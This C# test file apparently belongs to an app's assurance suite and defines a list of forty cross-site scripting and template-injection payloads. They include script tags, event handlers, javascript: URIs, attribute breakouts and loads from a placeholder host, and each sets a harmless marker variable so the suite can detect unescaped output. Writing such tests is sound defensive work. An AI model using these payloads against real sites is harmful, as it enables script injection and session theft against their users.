namespace Xueshi.Tests.Assurance;

/// <summary>Forty texts that would become something else if a page took them for markup, an address, a template or a script; each would set <c>owned</c>.</summary>
internal static class HostileTexts
{
    public static readonly IReadOnlyList<string> All =
    [
        "<script>owned=1</script>", "<SCRIPT SRC=//192.0.2.1/x.js></SCRIPT>", "<img src=x onerror=owned=1>", "<svg onload=owned=1>", "<svg/onload=owned=1>",
        "<body onload=owned=1>", "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>", "<iframe src=javascript:parent.owned=1></iframe>", "<math><mtext><img src=x onerror=owned=1></mtext></math>",
        "<details open ontoggle=owned=1>", "<input autofocus onfocus=owned=1>", "<video><source onerror=owned=1></video>", "<a href=javascript:owned=1>学时</a>", "<a href=\"data:text/html,<script>owned=1</script>\">学时</a>",
        "<form action=javascript:owned=1><button>学时</button></form>", "<style>@import '//192.0.2.1/x.css';</style>", "<link rel=stylesheet href=//192.0.2.1/x.css>", "<base href=//192.0.2.1/>",
        "<meta http-equiv=refresh content=0;url=//192.0.2.1/>", "<object data=javascript:owned=1></object>", "<embed src=javascript:owned=1>", "<template><script>owned=1</script></template>",
        "\"><script>owned=1</script>", "'><script>owned=1</script>", "\" autofocus onfocus=\"owned=1", "' autofocus onfocus='owned=1", "</textarea><script>owned=1</script>", "</title><script>owned=1</script>",
        "</option></select><script>owned=1</script>", "--><script>owned=1</script>", "]]><script>owned=1</script>", "</script><script>owned=1</script>", "&lt;script&gt;owned=1&lt;/script&gt;", "&#60;script&#62;owned=1&#60;/script&#62;",
        "javascript:owned=1", "{{constructor.constructor('owned=1')()}}", "${owned=1}", "@(owned=1)", "＜script＞owned=1＜/script＞", "<!--[if gte IE 4]><script>owned=1</script><![endif]-->",
    ];
}
